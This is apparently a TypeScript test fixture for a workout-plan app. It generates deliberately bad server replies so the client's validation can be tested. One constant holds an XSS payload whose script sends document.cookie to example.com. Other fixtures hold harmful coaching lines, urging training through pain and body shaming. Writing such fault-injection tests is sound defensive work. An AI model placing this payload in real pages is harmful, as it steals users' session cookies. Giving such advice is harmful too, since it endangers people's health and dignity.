import type { CanonicalBlock } from '@/lib/domain/contract/canonical-block'
import { exerciseIds } from '@/lib/domain/catalogue/catalogue'
import type { MetadataReply, WeekReply } from '@/lib/domain/contract/wire'
import type { EvilKind } from './fault-script'

type Reply = Partial<MetadataReply> & Partial<WeekReply>
type Evil = (reply: Reply, block: CanonicalBlock) => Reply

/**
 * A copy of a reply with bad content. Most kinds still fit the schema; the others are what servers send that ignore its
 * bounds and types.
 */
export function evilReply(kind: EvilKind, reply: object, block: CanonicalBlock): object {
  return evils[kind](structuredClone(reply), block)
}

const evils: Record<EvilKind, Evil> = {
  foreign: (reply) => withExercises(reply, (n) => ['flying-trapeze-squat', 'moon-press'][n % 2]!),
  forbidden: (reply, block) => withExercises(reply, (n) => forbiddenIn(block, n)),
  sets: (reply) => withNumbers(reply, 500, 900),
  kilograms: (reply) => withWords(reply, 'Put 10,000 kg on the bar, or ten thousand kilos more.'),
  days: withOtherDays,
  same_weeks: withSameWeek,
  contradiction: (reply) =>
    withWords(
      withNumbers(reply, 1, 1),
      'This is a taper. Seven training days this week, each of 200 minutes: 19 sets of 47 reps at RIR 6 and 99 %.',
    ),
  numbers: (reply) => withWords(reply, 'Put 150 kg on the bar and do 12 sets.'),
  html: (reply) => withWords(reply, HTML),
  language: (reply) => withWords(reply, 'Diese Woche wird schwer. 今週は頑張ってください。'),
  pain: (reply) => withWords(reply, 'Train through the pain; your tendinitis will heal.'),
  shame: (reply) => withWords(reply, 'You are too fat for this, so burn calories and lose weight.'),
  flood: (reply) => withWords(reply, `${'💪🔥'.repeat(60)}\u0000\u202e${'!'.repeat(60)}`),
  bounds: (reply) => withWords(withNumbers(reply, -3, 1e9), `${'Very long words. '.repeat(200)}`),
  types: withOtherTypes,
  endless: withEndlessLists,
  hollow: (reply) => ({ ...reply, ...(reply.days ? { days: [] } : { slots: [] }) }),
  all: (reply) =>
    withWords(
      withNumbers(withOtherDays(reply), 500, 900),
      `${HTML} Diese Woche wird schwer. 今週は頑張ってください。 Train through the pain; your tendinitis will heal. Put 150 kg on the bar and do 12 sets.`,
    ),
}

const HTML =
  '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>'

/** Puts the words into every text of the reply. */
function withWords(reply: Reply, words: string): Reply {
  const said = (keys: string[]) => Object.fromEntries(keys.map((key) => [key, words]))
  if (!reply.days) return { ...reply, ...said(['why', 'name', 'strategy']) }
  return {
    ...reply,
    ...said(['title', 'focus', 'note']),
    days: reply.days.map((day) => ({
      ...day,
      ...said(['title', 'focus', 'note']),
      exercises: day.exercises.map((exercise) => ({ ...exercise, cue: words })),
    })),
  }
}

/** Other exercises in metadata; in a week, whose exercises are fixed, slots that the plan does not have. */
function withExercises(reply: Reply, id: (n: number) => string): Reply {
  const slots = reply.slots?.map((choice, n) => ({ ...choice, a: id(2 * n), b: id(2 * n + 1) }))
  const days = reply.days?.map((day) => ({
    ...day,
    exercises: day.exercises.map((exercise, n) =>
      n % 2 ? exercise : { ...exercise, slot: id(n) },
    ),
  }))
  return {
    ...reply,
    ...(slots ? { slots: slots as MetadataReply['slots'] } : {}),
    ...(days && { days }),
  }
}

/** An exercise of the catalogue that no slot offers. */
function forbiddenIn(block: CanonicalBlock, n: number): string {
  const allowed = new Set(
    block.kind === 'metadata' ? block.slots.flatMap(({ candidates }) => candidates) : [],
  )
  const others = exerciseIds.filter((id) => !allowed.has(id))
  return others[n % others.length] ?? exerciseIds[0]
}

/** Numbers that nobody asked for: sets and amounts are the plan's. */
function withNumbers(reply: Reply, sets: number, amount: number): Reply {
  const days = reply.days?.map((day) => ({
    ...day,
    exercises: day.exercises.map((exercise) => ({ ...exercise, sets, amount })),
  }))
  return { ...reply, ...(days && { days }) }
}

/** Without the last day, with the first day twice, and with a day that nobody asked for. */
function withOtherDays(reply: Reply): Reply {
  const slots = reply.slots?.slice(0, Math.ceil(reply.slots.length / 2))
  const [first, ...others] = reply.days ?? []
  if (!first) return { ...reply, ...(slots && { slots }) }
  return {
    ...reply,
    days: [first, ...others.slice(0, -1), { ...first, title: 'Again' }, { ...first, day: 7 }],
  }
}

/** The same bytes whatever the week, as far as days and slots allow. */
function withSameWeek(reply: Reply): Reply {
  if (!reply.days) return reply
  return {
    title: 'Week 1',
    focus: 'The same again',
    note: 'Do what you did last week.',
    days: reply.days.map(({ day, exercises }) => ({
      day,
      title: 'Training day',
      focus: 'The same again',
      note: '',
      exercises: exercises.map(({ slot }) => ({
        slot,
        cue: 'Move as you did last week.',
        superset: null,
      })),
    })),
  }
}

/** Numbers as text or in lists, keys that are missing and keys that nobody knows. */
function withOtherTypes(reply: Reply): Reply {
  const { title: _title, name: _name, ...rest } = reply
  const days = rest.days?.map(({ focus: _focus, ...day }, n) => ({
    ...day,
    day: String(day.day),
    note: { text: 'a note' },
    secret: [day.day],
    exercises: day.exercises.map(({ cue: _cue, ...exercise }) => ({
      ...exercise,
      slot: n % 2 ? exercise.slot : [exercise.slot],
      superset: 7,
      sets: { count: 3 },
      weight_kg: 400,
    })),
  }))
  const slots = rest.slots?.map(({ slot, a }, n) => (n % 2 ? { slot, a: [a] } : slot))
  return { ...rest, why: 5, strategy: null, slots, days } as unknown as Reply
}

/** A day of a thousand exercises, and a thousand days. */
function withEndlessLists(reply: Reply): Reply {
  const [day] = reply.days ?? []
  if (!day) return { ...reply, slots: thousand(reply.slots ?? []) }
  const short = { ...day, exercises: day.exercises.slice(0, 1) }
  return { ...reply, days: [{ ...day, exercises: thousand(day.exercises) }, ...thousand([short])] }
}

function thousand<T>(list: T[]): T[] {
  return Array.from({ length: 1000 }, (_, n) => list[n % list.length]!)
}
